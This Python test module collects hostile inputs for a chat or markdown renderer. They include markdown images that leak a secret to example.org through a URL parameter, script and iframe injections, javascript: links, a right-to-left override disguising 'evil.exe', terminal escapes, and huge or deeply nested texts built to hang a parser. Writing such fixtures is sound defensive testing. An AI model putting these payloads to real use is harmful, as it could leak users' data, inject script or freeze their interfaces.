"""Texts that try to make a chat hang, fetch or forget something: what a model, or a page pasted from, may contain."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

BAIT = "/bait/file.png"
LEVELS = 1_000
NUM_FENCES = 5_000
NUM_CELLS = 100_000
MEGABYTE = 1_000_000
_COLUMNS = 10

FETCHING = {
    "image": "![a cat](https://example.org/cat.png?user=secret)",
    "image_file": "![x](file:///bait/file.png) ![y](/bait/file.png) ![z](data:image/png;base64,iVBORw0KGgo=)",
    "image_unc": r"![x](\\example.org\share\x.png) ![y](//example.org/y.png)",
    "img": '<img src="https://example.org/x.png?a=b"><img src="file:///bait/file.png">',
    "img_block": '<img src="file:///bait/file.png"\n  onerror="alert(1)">\n',
    "script": "<script>fetch('https://example.org')</script>\n\n<script src='https://example.org/x.js'>",
    "style": "<style>@import url(https://example.org/x.css); body{background:url(file:///bait/file.png)}</style>",
    "links": r"[a](file:///bait/file.png) [b](javascript:alert(1)) [c](\\example.org\x) [d](data:text/html,x)",
    "autolinks": r"<https://example.org/?q=1> <file:///bait/file.png> \\example.org\share file:///bait/file.png",
    "reference": "![x][y] [z][y]\n\n[y]: https://example.org/y.png 'title'",
    "iframe": "<iframe src='https://example.org'></iframe><object data='file:///bait/file.png'></object>",
}
"""Each would be fetched by something that shows HTML; `BAIT` stands for a file that is there."""

LETTERS = {
    "right_to_left": "שלום **עולם** \u202eevil.exe\u202c مرحبا `code` ١٢٣\n\n- [x] תם\n\n```\nמשתנה = 1\n```",
    "zalgo": "Z" + "\u0300\u0301\u0302\u0316\u0489" * 400 + "algo **b" + "\u0336" * 50 + "**",
    "zero_width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f \u00ad**\u200bx\u200b** [a\u200b](https://b.org)",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://example.org\x07link\x1b]8;;\x07 \x1b[2J",
    "controls": "a\x00b\x01c\x7fd\x85e\u2028f\u2029g\x0bh\x0ci\rj\tk \ufdd0\ufdd1\ufffc\ufffe\uffff",
    "lone_halves": "x\ud800y\udc00z `a\ud83d` \ud83d\n\n```\n\udfff\n```",
    "line_ends": "a\r\nb\r\n\r\n```\r\nx\r\n```\r\nc\rd",
    "emoji": "👩‍👩‍👧‍👦🇳🇱👍🏽 1️⃣ **👩‍🚀**",
    "escapes": r"\*a\* \\server\share C:\new\*x \[b\] &amp; &lt;b&gt; &#65; 1\. \_x\_ <b title='*y*'>&nbsp;</b>",
}
"""Each must come back as it was."""


def big() -> dict[str, str]:
    """Texts whose size or depth is what is hostile about them."""
    row = "|" + "|".join(["1"] * _COLUMNS) + "|\n"
    header = "|" + "|".join(["a"] * _COLUMNS) + "|\n|" + "|".join(["-"] * _COLUMNS) + "|\n"
    return {
        "long_line": "x" * MEGABYTE,
        "long_words": "word " * (MEGABYTE // 5),
        "long_marks": "e\u0301" * (MEGABYTE // 2),
        "long_code_line": "```python\n" + "x" * MEGABYTE + "\n```",
        "long_brackets": "[" * (MEGABYTE // 4),
        "long_stars": "**a " * (MEGABYTE // 8),
        "long_dollars": "$a " * (MEGABYTE // 8),
        "long_backslashes": "\\(" * (MEGABYTE // 8),
        "long_url": f"[x](https://example.org/{'a' * MEGABYTE})",
        "fences": "```py\nx = 1\n```\n" * NUM_FENCES,
        "open_fences": "".join(f"{'`' * (3 + number % 5)}a{number}\n" for number in range(NUM_FENCES)),
        "quotes": "> " * LEVELS + "end",
        "lists": "- " * LEVELS + "end",
        "steps": "".join(f"{'  ' * level}- {level}\n" for level in range(LEVELS)),
        "mixed": "> - " * (LEVELS // 2) + "end",
        "table": header + row * (NUM_CELLS // _COLUMNS),
        "wide_table": "|" + "a|" * NUM_FENCES + "\n|" + "-|" * NUM_FENCES + "\n|" + "b|" * NUM_FENCES + "\n",
        "items": "- item\n" * 20_000,
        "thoughts": "<think>\n" * NUM_FENCES,
        "html": "<div>\n" * NUM_FENCES + "</div>\n" * NUM_FENCES,
        "lines": "line\n" * 50_000,
    }


def in_tokens(text: str, length: int = 4) -> Iterator[str]:
    """Yield a text as it grows, a token of a few characters at a time."""
    for end in range(length, len(text) + length, length):
        yield text[:end]
